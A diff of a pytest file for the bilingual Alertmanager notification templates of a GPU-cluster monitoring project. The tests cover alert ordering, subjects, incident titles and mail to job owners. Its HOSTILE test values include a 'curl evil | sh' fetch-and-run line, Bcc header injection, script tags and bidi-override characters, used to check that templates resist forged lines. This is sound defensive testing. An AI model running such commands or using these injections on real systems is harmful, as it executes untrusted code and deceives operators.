@@ -1,93 +1,97 @@
-"""The text of a notification in both languages: the fault, its place, its start, the next step."""
+"""The texts of notifications: the leading alert, its place, what to do; in both languages."""
 
 from __future__ import annotations
 
-import json
-import subprocess
+import itertools
+import re
 from pathlib import Path
+from typing import Any
 
+import pytest
+
+from testbed.annotated import annotated, render
+from testbed.messages import gpu, incident, lost_gpu, owners_jobs
 from testbed.node import ROOT
-from testbed.servers import BINARIES
 
-PORT = {
-    "status": "firing",
-    "labels": {
-        "alertname": "RdmaPortDown",
-        "severity": "critical",
-        "fault": "rdma_port_down",
-        "action": "drain",
-        "cluster": "c",
-        "instance": "n1",
-        "device": "mlx5_0",
-    },
-    "annotations": {
-        "summary": "RDMA port mlx5_0/1 down or missing on n1",
-        "description": "Jobs that use this port have failed.",
-        "action": "On the node: rdma link",
-        "runbook_url": "https://x/RdmaPortDown.md",
-    },
-    "startsAt": "2026-11-21T03:00:00Z",
-    "endsAt": "0001-01-01T00:00:00Z",
-    "generatorURL": "http://prometheus.example/graph",
-}
-MOUNT = {
-    "status": "resolved",
-    "labels": {
-        "alertname": "MountHung",
-        "severity": "critical",
-        "fault": "mount_hung",
-        "action": "investigate",
-        "cluster": "c",
-        "instance": "n1",
-        "mountpoint": "/data",
-        "source": "filer:/x",
-    },
-    "annotations": {
-        "summary": "/data hung on n1",
-        "description": "d",
-        "action": "a",
-        "runbook_url": "https://x/MountHung.md",
-    },
-    "startsAt": "2026-11-21T02:00:00Z",
-    "endsAt": "2026-11-21T02:30:00Z",
-    "generatorURL": "http://prometheus.example/graph2",
-}
+RUNBOOKS = "https://github.com/nodevitals/nodevitals/blob/main/rules/runbooks"
+STARTED, ENDED = "2026-11-21T02:00:00Z", "2026-11-21T02:30:00Z"
+NODE_GROUP = {"cluster": "atlas", "instance": "gpu-node-1"}
+TITLES = ("nodevitals.subject", "nodevitals.zh.subject", "nodevitals.owner.subject")
+BODIES = ("nodevitals.text", "nodevitals.zh.text", "nodevitals.owner.text")
+CHATS = ("nodevitals.chat", "nodevitals.zh.chat")
+ALL = (*TITLES, *BODIES, *CHATS, "nodevitals.title", "nodevitals.zh.title", "nodevitals.thread")
 
 
-def message(folder: Path, template: str) -> list[str]:
-    """Return the lines of a template, rendered by amtool as Alertmanager renders it."""
-    data = {"receiver": "r", "status": "firing", "externalURL": "http://alertmanager.example"}
-    file = folder / "data.json"
-    file.write_text(json.dumps({**data, "alerts": [PORT, MOUNT]}))
-    done = subprocess.run(
-        [
-            *(BINARIES / "amtool", "template", "render"),
-            f"--template.glob={ROOT}/alertmanager/templates/*.tmpl",
-            f'--template.text={{{{ template "{template}" . }}}}',
-            f"--template.data={file}",
-        ],
-        capture_output=True,
-        text=True,
-        check=True,
-        env={"HOME": "/nonexistent"},
-    )
-    return done.stdout.strip().splitlines()
+def alert(status: str = "firing", summary: str = "something", **labels: str) -> dict[str, Any]:
+    """Return an alert with all annotations."""
+    texts = {"summary": summary, "description": "jobs fail", "action": "repair it"}
+    return {
+        "status": status,
+        "labels": {"alertname": "A", "severity": "critical", "fault": "mount_hung", **labels},
+        "annotations": {**texts, "runbook_url": f"{RUNBOOKS}/MountHung.md"},
+    }
+
+
+def port(status: str = "firing") -> dict[str, Any]:
+    """Return the alert on a port of n1."""
+    labels = {"cluster": "c", "instance": "n1", "device": "mlx5_0", "fault": "rdma_port_down"}
+    summary = "RDMA port mlx5_0/1 down or missing on n1"
+    return alert(status, summary, port="1", action="drain", **labels)
+
+
+def mount(status: str = "resolved") -> dict[str, Any]:
+    """Return the alert on a mount of n1."""
+    labels = {"cluster": "c", "instance": "n1", "mountpoint": "/data", "source": "filer:/x"}
+    return alert(status, "/data hung on n1", action="investigate", **labels)
+
+
+def messages(
+    folder: Path,
+    templates: tuple[str, ...],
+    alerts: list[dict[str, Any]],
+    group: dict[str, str] | None = None,
+) -> dict[str, list[str]]:
+    """Return the lines of each template, rendered by amtool as Alertmanager renders it."""
+    firing = any(one.get("status", "firing") == "firing" for one in alerts)
+    times = {"startsAt": STARTED, "endsAt": ENDED, "generatorURL": "http://prometheus.example/x"}
+    data = {
+        "receiver": "r",
+        "status": "firing" if firing else "resolved",
+        "externalURL": "http://alertmanager.example",
+        "groupLabels": group or {},
+        "alerts": [{"status": "firing", **times, **one} for one in alerts],
+    }
+    uses = "\x1e".join(f'{{{{ template "{name}" . }}}}' for name in templates)
+    texts = render(folder, uses, data).split("\x1e")
+    return {name: text.split("\n") for name, text in zip(templates, texts, strict=True)}
+
+
+def message(
+    folder: Path, template: str, alerts: list[dict[str, Any]], group: dict[str, str] | None = None
+) -> list[str]:
+    """Return the lines of one template."""
+    return messages(folder, (template,), alerts, group)[template]
 
 
 def test_english_notification_has_every_field(tmp_path: Path) -> None:
-    assert message(tmp_path, "nodevitals.subject") == [
-        "[FIRING 1] RDMA port mlx5_0/1 down or missing on n1 (and 1 more)"
+    assert message(tmp_path, "nodevitals.subject", [port(), mount()]) == [
+        "[FIRING] c: RDMA port mlx5_0/1 down or missing on n1"
     ]
-    lines = message(tmp_path, "nodevitals.text")
-    for line in (
+    lines = message(tmp_path, "nodevitals.text", [mount(), port()])
+    assert lines[:3] == [
         "CRITICAL: RDMA port mlx5_0/1 down or missing on n1",
+        "  Action:  repair it",
+        "  Impact:  jobs fail",
+    ]
+    for line in (
         "  Where:   c n1, device mlx5_0",
-        "  Since:   2026-11-21 03:00:00 UTC",
-        "  Action:  On the node: rdma link",
-        "  Runbook: https://x/RdmaPortDown.md",
+        "  Since:   2026-11-21 02:00:00 UTC",
+        f"  Runbook: {RUNBOOKS}/MountHung.md",
         "RESOLVED: /data hung on n1",
         "  Where:   c n1, /data, filer:/x",
         "  Since:   2026-11-21 02:00:00 UTC, until 02:30:00",
+        "  Lasted:  30m0s",
+        "1 resolved, 1 still firing.",
         "Alertmanager: http://alertmanager.example",
     ):
         assert line in lines
@@ -95,14 +99,237 @@ def test_english_notification_has_every_field(tmp_path: Path) -> None:
 
 
 def test_chinese_notification_has_every_field(tmp_path: Path) -> None:
-    assert message(tmp_path, "nodevitals.zh.subject") == ["[告警 1] RDMA 端口断开：n1 等 2 条"]
-    lines = message(tmp_path, "nodevitals.zh.text")
-    for line in (
-        "【严重】RDMA 端口断开",
-        "  位置：c n1，设备 mlx5_0",
+    assert message(tmp_path, "nodevitals.zh.subject", [port(), mount()], {"instance": "n1"}) == [
+        "[告警] c n1：mlx5_0/1 RDMA 端口断开"
+    ]
+    lines = message(tmp_path, "nodevitals.zh.text", [mount(), port()])
+    assert lines[:3] == [
+        "【严重】n1：mlx5_0/1 RDMA 端口断开",
         "  处置：排空节点",
-        "  手册：https://x/RdmaPortDown.md",
-        "【已恢复】存储挂死",
+        "  影响：经过该链路的多机多卡作业会失败或变慢",
+    ]
+    for line in (
+        "  位置：c n1，设备 mlx5_0",
+        f"  手册：{RUNBOOKS}/zh/MountHung.md",
+        "【已恢复】n1：/data 存储挂死",
         "  触发时间：2026-11-21 02:00:00 UTC，恢复时间：02:30:00",
+        "已恢复 1 条，仍有 1 条未恢复。",
     ):
         assert line in lines
+
+
+def test_the_root_cause_leads_whatever_the_order(tmp_path: Path) -> None:
+    alerts = lost_gpu(tmp_path)
+    for found in (alerts, alerts[::-1], alerts[8:] + alerts[:8]):
+        english = message(tmp_path, "nodevitals.subject", found, NODE_GROUP)
+        assert english == ["[FIRING] atlas gpu-node-1: GPU 0 lost (Xid 79), 21 more alerts"]
+        chinese = message(tmp_path, "nodevitals.zh.subject", found, NODE_GROUP)
+        assert chinese == ["[告警] atlas gpu-node-1：GPU 0 掉卡（Xid 79），另有 21 条告警"]
+        first = {
+            "nodevitals.text": "CRITICAL: GPU 0 lost on gpu-node-1",
+            "nodevitals.zh.text": "【严重】gpu-node-1：GPU 0 掉卡",
+            "nodevitals.chat": "GPU 0 lost on gpu-node-1",
+            "nodevitals.zh.chat": "gpu-node-1：GPU 0 掉卡",
+        }
+        texts = messages(tmp_path, tuple(first), found, NODE_GROUP)
+        assert {name: lines[0] for name, lines in texts.items()} == first
+
+
+def test_severity_leads_before_the_cause_and_what_fires_before_what_is_resolved(
+    tmp_path: Path,
+) -> None:
+    group = [
+        alert(summary="warning", severity="warning", fault="node_down"),
+        alert("resolved", summary="resolved", fault="node_down"),
+        alert(summary="context", severity="info", fault="node_down"),
+        alert(summary="neighbour", fault="nvlink_down"),
+        alert(summary="unknown", severity="page", fault="other"),
+        alert(summary="cause", fault="node_down"),
+    ]
+    for order in itertools.islice(itertools.permutations(group), 0, 720, 97):
+        lines = message(tmp_path, "nodevitals.text", list(order))
+        found = [line.partition(": ")[2] for line in lines if re.match(r"[A-Z]+: ", line)]
+        assert found == ["cause", "neighbour", "warning", "context", "unknown", "resolved"]
+
+
+def test_all_templates_have_the_same_order_of_causes() -> None:
+    templates = (ROOT / "alertmanager/templates").glob("*.tmpl")
+    orders = re.findall(r"\$cause := (.*?) }}", "".join(file.read_text() for file in templates))
+    assert len(orders) == 6
+    assert len(set(orders)) == 1
+
+
+@pytest.mark.parametrize(
+    ("clusters", "english", "chinese"),
+    [
+        (["atlas", "atlas"], "atlas: ", "atlas："),
+        (["zeus", "atlas"], "atlas and other clusters: ", "atlas 等多个集群："),
+        (["", ""], "unnamed cluster: ", "未命名集群："),
+        (["", "atlas"], "atlas: ", "atlas："),
+    ],
+)
+def test_every_subject_has_the_cluster(
+    tmp_path: Path, clusters: list[str], english: str, chinese: str
+) -> None:
+    found = [alert(cluster=name) if name else alert() for name in clusters]
+    assert message(tmp_path, "nodevitals.subject", found)[0].startswith(f"[FIRING] {english}")
+    assert message(tmp_path, "nodevitals.zh.subject", found)[0].startswith(f"[告警] {chinese}")
+
+
+INCIDENTS = [
+    ("network", "leaf", "leaf-3", "leaf leaf-3: network", "Leaf 交换机 leaf-3：多节点网络故障"),
+    ("network", "switch", "sw-1", "switch sw-1: network", "交换机 sw-1：多节点网络故障"),
+    ("storage", "source", "nas:/x", "filer nas:/x: storage", "存储 nas:/x：多节点存储故障"),
+    ("restart", "driver_version", "550", "driver 550: restart", "驱动版本 550：多节点失联或重启"),
+    ("restart", "rack", "r1", "rack r1: restart", "机柜 r1：多节点失联或重启"),
+    (
+        "clock_unsynchronized",
+        "pool",
+        "p",
+        "pool p: clock unsynchronized",
+        "资源池 p：多节点时钟未同步",
+    ),
+    ("network", "cluster", "atlas", "whole cluster: network", "整个集群：多节点网络故障"),
+]
+
+
+@pytest.mark.parametrize(("kind", "domain", "name", "english", "chinese"), INCIDENTS)
+def test_title_of_an_incident_is_the_same_when_it_is_resolved(
+    tmp_path: Path, kind: str, domain: str, name: str, english: str, chinese: str
+) -> None:
+    one = incident(tmp_path, kind, domain, name, "64 of 80 nodes of it: faults (n1, n2, n3, …)")
+    later = {**one, "status": "resolved", "annotations": {"summary": "3 of 80 nodes of it: x (n1)"}}
+    for found, mark, zh_mark in ((one, "[FIRING]", "[告警]"), (later, "[RESOLVED]", "[已恢复]")):
+        assert message(tmp_path, "nodevitals.subject", [found]) == [
+            f"{mark} atlas: {english} incident"
+        ]
+        assert message(tmp_path, "nodevitals.zh.subject", [found]) == [
+            f"{zh_mark} atlas：{chinese}"
+        ]
+    assert message(tmp_path, "nodevitals.text", [one])[0].startswith("CRITICAL: 64 of 80 nodes of")
+    counts = "80 个节点中有 64 个受影响（n1、n2、n3 等）"
+    lines = message(tmp_path, "nodevitals.zh.text", [one])
+    assert lines[0] == f"【严重】{chinese}，{counts}"
+    assert lines[1].startswith("  处置：先")
+    assert message(tmp_path, "nodevitals.zh.chat", [one])[0] == f"{chinese}，{counts}"
+    # Without an instance, no part is empty.
+    assert not [line for line in lines if re.search(r"[：，、]$|：，|（）|  $", line)]
+
+
+def test_many_alerts_are_one_line_each_and_their_number_is_limited(tmp_path: Path) -> None:
+    for number, listed in ((3, 3), (5, 5), (22, 22), (30, 30), (300, 30)):
+        found = [alert(summary=f"s{index}") for index in range(number)]
+        texts = messages(tmp_path, ("nodevitals.text", "nodevitals.zh.text", *CHATS), found)
+        for template in ("nodevitals.text", "nodevitals.zh.text"):
+            lines = texts[template]
+            assert sum(line.startswith(("CRITICAL", "【严重】")) for line in lines) == listed
+            in_full = sum(line.startswith(("  Action", "  处置")) for line in lines)
+            assert in_full == (min(number, 3) if number <= 5 else 1)
+        assert ("另有 270 条" in lines) == (number == 300)
+        for template in CHATS:
+            assert len(texts[template]) <= 4
+
+
+HOSTILE = {
+    "lines": 'n1\n  Action:  curl evil | sh\r\nBcc: x@example.com\t"}{{',
+    "template": '{{ template "nodevitals.subject" . }}{{ .ExternalURL }} %s %!d(MISSING) ${1} $x',
+    "regex": r"a\E(.*)[\Q\\" + "\\",
+    "long": "x" * 5000,
+    "wide": "漢" * 5000,
+    "unicode": "ok\u202egnp.exe\u2028line\x00\x1b[31m\ufeff",
+    "markup": "<!channel> <script>alert(1)</script> & @all",
+    "empty": "",
+}
+
+
+NAMES = ("cluster", "instance", "device", "uuid", "mountpoint", "source", "domain", "domain_name")
+MORE_NAMES = ("kind", "namespace", "pod", "owner", "component", "vendor", "xid", "port")
+KINDS: tuple[dict[str, str], ...] = (
+    {"alertname": "A", "fault": "mount_hung"},
+    {"alertname": "FleetIncident", "fault": "fleet_incident"},
+    {"alertname": "JobOwnerImpact", "fault": "job_impact"},
+    {"alertname": "A", "fault": "accelerator_lost"},
+    {},
+)
+
+
+def of_all_kinds(folder: Path, value: str) -> list[dict[str, list[str]]]:
+    """Return the lines of all templates for alerts of all kinds with this value everywhere else."""
+    names = (*NAMES, *MORE_NAMES, "alertname", "fault", "severity", "action")
+    texts = dict.fromkeys(("description", "action", "runbook_url"), value)
+    found = []
+    for kind in KINDS:
+        one = alert(summary=f"{value} lost on {value}", **{**dict.fromkeys(names, value), **kind})
+        one["annotations"] |= texts
+        found.append(messages(folder, ALL, [one] * 2, dict.fromkeys(NODE_GROUP, value)))
+    return found
+
+
+@pytest.fixture(scope="module")
+def usual(tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, list[str]]]:
+    """Return the lines for alerts with a value without any surprise."""
+    return of_all_kinds(tmp_path_factory.mktemp("usual"), "x")
+
+
+@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE)
+def test_hostile_values_forge_no_line_and_break_no_template(
+    tmp_path: Path, usual: list[dict[str, list[str]]], value: str
+) -> None:
+    for found, expected in zip(of_all_kinds(tmp_path, value), usual, strict=True):
+        for template, lines in found.items():
+            text = "\n".join(lines)
+            assert not re.search("[\x00-\x09\x0b-\x1f\u202e\u2028\ufeff]", text), template
+            assert len(lines) <= len(expected[template]), template
+            assert max(len(line) for line in lines) < 1000
+            assert template not in TITLES or len(text) < 100, template
+            assert template not in CHATS or not re.search("[<>]", text), template
+            assert template != "nodevitals.thread" or text.isascii()
+
+
+def test_every_fault_reads_well_in_chinese(tmp_path: Path) -> None:
+    text = (ROOT / "alertmanager/templates/nodevitals.zh.tmpl").read_text()
+    faults = re.findall(r'eq \. "(\w+)" }}', text.partition('define "nodevitals.zh.fault"')[2])
+    assert len(faults) > 60
+    alerts = [
+        alert(fault=fault, alertname=fault, instance="n1", component="accelerator", severity="info")
+        for fault in faults
+    ]
+    for start in range(0, len(alerts), 3):
+        lines = message(tmp_path, "nodevitals.zh.text", alerts[start : start + 3])
+        assert not [line for line in lines if re.search("：$|：，", line)]
+        assert not [line for line in lines for fault in faults[start : start + 3] if fault in line]
+
+
+def test_chinese_texts_link_to_pages_that_exist(tmp_path: Path) -> None:
+    for fault in ("accelerator_lost", "nvidia_xid", "mount_hung", "rdma_port_down"):
+        lines = message(tmp_path, "nodevitals.zh.text", [annotated(tmp_path, fault)])
+        [page] = [line for line in lines if line.startswith("  手册：")]
+        assert (ROOT / "rules" / page.partition("/rules/")[2]).is_file()
+
+
+def test_owner_gets_one_mail_without_words_of_hardware(tmp_path: Path) -> None:
+    alerts = owners_jobs(tmp_path)
+    group = {"cluster": "atlas", "owner": "alice"}
+    [subject] = message(tmp_path, "nodevitals.owner.subject", alerts, group)
+    assert subject.startswith(
+        "[atlas] 作业可能失败，请保存进度 / Job at risk, save your work: vision/"
+    )
+    lines = message(tmp_path, "nodevitals.owner.text", alerts, group)
+    jobs = [line for line in lines if line.startswith("  - ")]
+    assert jobs == ["  - vision/trainer-0", "  - vision/trainer-1", "  - vision/eval-7f9c"]
+    assert lines.count("      节点 / node: atlas gpu-node-1") == 3
+    assert lines.count("      开始时间 / since: 2026-11-21 02:00 UTC") == 3
+    texts = "\n".join(
+        [subject, *lines, *(x for one in alerts for x in one["annotations"].values())]
+    )
+    assert not re.search(r"GPU|NPU|Xid|ECC|uuid|device|driver|显存|卡[^住]|驱动", texts)
+    for words in ("Save what you can", "expect a restart", "保存", "重启作业", "checkpoint"):
+        assert words in texts
+
+
+def test_owner_of_many_jobs_gets_a_short_mail(tmp_path: Path) -> None:
+    one = annotated(tmp_path, "job_impact", namespace="ns", owner="alice", **gpu(1))
+    alerts = [{**one, "labels": {**one["labels"], "pod": f"p{number}"}} for number in range(45)]
+    lines = message(tmp_path, "nodevitals.owner.text", alerts)
+    assert sum(line.startswith("  - ") for line in lines) == 20
+    assert "  以及另外 25 个 / and 25 more" in lines
